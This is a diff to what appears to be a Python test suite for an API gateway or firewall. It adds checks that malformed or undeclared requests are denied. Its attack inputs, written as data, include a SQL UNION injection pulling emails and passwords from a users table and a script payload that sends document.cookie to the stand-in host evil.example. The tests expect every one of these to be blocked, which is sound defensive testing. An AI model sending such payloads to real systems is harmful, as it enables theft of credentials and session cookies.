@@ -45,6 +45,7 @@ def _unsigned_token() -> str:
 
 _KEY: Headers = (("x-api-key", "{key}"),)
 _JSON: Headers = (("content-type", "application/json"),)
+_FORM = ("content-type", "application/x-www-form-urlencoded")
 _ORDER = '{"user_id": 1, "items": [{"product_id": 3, "quantity": 2}]}'
 _COUPON = '{"code": "WELCOME10", "order_id": 1}'
 _LOGIN = '{"email": "ada.lind@example.com", "password": "correct-horse-1"}'
@@ -84,12 +85,25 @@ _MALFORMED = (
 )
 
 _UNION = "/search?q=%27%20UNION%20SELECT%20email,%20password,%20name,%201%20FROM%20users%20--%20"
-_SCRIPT = '{"user_id": 1, "items": [], "note": "<script>fetch(`//evil.example/${document.cookie}`)</script>"}'
+_SCRIPT = '{"address": "<script>fetch(`//evil.example/${document.cookie}`)</script>"}'
+_HALF = '{"user_id": 1, "items": [{"product_id": 3, "quantity": 0.5}]}'
+_PROMOTED = '{"name": "Ada", "role": "admin"}'
+_TWICE = '{"user_id": 1, "user_id": 2, "items": [{"product_id": 3, "quantity": 2}]}'
+
+_UNDESCRIBED = (
+    Step("half a lamp", "POST", "/orders", _KEY + _JSON, _HALF, expect="deny", status=400),
+    Step("a role for oneself", "PATCH", "/users/1", _KEY + _JSON, _PROMOTED, expect="deny", status=400),
+    Step("a member that stands twice", "POST", "/orders", _KEY + _JSON, _TWICE, expect="deny", status=400),
+    Step("a page that is no number", "GET", "/products?page=two", _KEY, expect="deny", status=400),
+    Step("a parameter that nobody described", "GET", "/products?debug=1", _KEY, expect="deny", status=400),
+    Step("a path that nobody described", "GET", "/admin", _KEY, expect="deny", status=404),
+    Step("a form in place of JSON", "POST", "/login", (*_KEY, _FORM), _GUESS, expect="deny", status=415),
+)
 
 _INJECTED = (
     Step("a search in plain words", "GET", "/search?q=select+the+best+lamp", _KEY),
     Step("SQL in a search", "GET", _UNION, _KEY, expect="deny", status=403),
-    Step("a script in an order", "POST", "/orders", _KEY + _JSON, _SCRIPT, expect="deny", status=403),
+    Step("a script in an address", "PATCH", "/users/1", _KEY + _JSON, _SCRIPT, expect="deny", status=403),
     Step(
         "a look-up by log4j",
         "GET",
@@ -131,4 +145,4 @@ _BURST = (
     ),
 )
 
-STEPS: tuple[Step, ...] = _HONEST + _STRANGERS + _MALFORMED + _INJECTED + _FORGED + _LEAKS + _BURST
+STEPS: tuple[Step, ...] = _HONEST + _STRANGERS + _MALFORMED + _UNDESCRIBED + _INJECTED + _FORGED + _LEAKS + _BURST
